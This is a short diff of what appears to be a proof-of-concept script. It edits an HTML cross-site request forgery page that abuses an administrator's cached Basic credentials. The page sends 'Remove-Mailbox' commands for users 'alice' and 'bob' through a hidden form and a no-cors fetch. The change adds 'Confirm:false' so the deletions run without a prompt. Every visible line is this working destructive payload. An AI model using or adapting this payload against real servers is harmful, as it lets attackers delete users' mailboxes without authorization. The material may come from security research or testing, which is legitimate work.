@@ -40,7 +40,7 @@ def spki_sha256(pem_file):
 
 ATTACK = """<!doctype html><html><body>
 <form id="f" method="POST" enctype="text/plain" action="{target}">
-<input name='{{"Cmdlet":"Remove-Mailbox","Parameters":{{"Identity":"alice"}},"pad":"' value='"}}'>
+<input name='{{"Cmdlet":"Remove-Mailbox","Parameters":{{"Identity":"alice","Confirm":false}},"pad":"' value='"}}'>
 </form>
 <script>
   // The administrator has the web view open in another tab: the browser holds its Basic
@@ -51,7 +51,7 @@ ATTACK = """<!doctype html><html><body>
     // top-level navigation).
     fetch("{target}", {{method: "POST", mode: "no-cors", credentials: "include",
       headers: {{"Content-Type": "text/plain"}},
-      body: JSON.stringify({{Cmdlet: "Remove-Mailbox", Parameters: {{Identity: "bob"}}}})}})
+      body: JSON.stringify({{Cmdlet: "Remove-Mailbox", Parameters: {{Identity: "bob", Confirm: false}}}})}})
       .finally(() => document.getElementById("f").submit());
   }}, 3000);
 </script></body></html>"""
